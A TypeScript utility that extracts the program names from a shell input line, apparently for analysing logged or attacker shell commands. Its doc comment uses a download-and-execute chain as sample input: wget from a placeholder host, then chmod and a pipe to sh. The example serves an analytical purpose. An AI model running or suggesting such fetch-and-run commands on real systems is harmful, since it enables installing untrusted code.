/**
 * The programs a shell input line runs: the first word of each command the line chains with
 * `;`, `&&`, `||`, `|`, `&` or a newline, reduced to its base name (`/tmp/./xcsyn` -> `xcsyn`,
 * `./a.sh` -> `a.sh`), surrounding quotes removed. A heuristic, not a shell parser: a
 * separator inside quotes splits too, which only ever adds a token.
 *
 *   commandTokens('cd /tmp; wget http://x/a && chmod +x a | sh') -> ['cd', 'wget', 'chmod', 'sh']
 */
const SEPARATORS = /;|&&|\|\||\||\r?\n|(?<![<>&])&(?![<>&])/;

export function commandTokens(input: string): string[] {
  const tokens: string[] = [];
  for (const part of input.split(SEPARATORS)) {
    const word = part.trim().split(/\s+/, 1)[0]?.replace(/^["']+|["']+$/g, '');
    if (!word) continue;
    const base = word.slice(word.lastIndexOf('/') + 1);
    tokens.push(base === '' ? word : base);
  }
  return tokens;
}
